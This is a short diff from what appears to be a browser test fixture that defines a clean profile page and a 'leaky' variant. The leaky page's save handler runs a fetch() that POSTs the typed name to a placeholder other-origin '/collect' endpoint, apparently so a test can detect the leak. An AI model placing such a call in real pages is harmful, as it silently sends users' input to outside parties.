@@ -56,8 +56,8 @@ PAGE = '''<!doctype html><title>Profile</title>
 </script>'''
 CLEAN = PAGE.format(send="Promise.resolve()")
 # the same page once it also sends what was typed to another origin
-LEAKY = PAGE.format(send="fetch('{other}/collect', {{method: 'POST', body: name, "
-                         "mode: 'no-cors'}})")
+LEAKY = PAGE.format(send="fetch('{other}/collect', {method: 'POST', body: name, "
+                         "mode: 'no-cors'})")
 
 SCRIPT = [
     {"complete": False, "message": "type and save", "actions": [
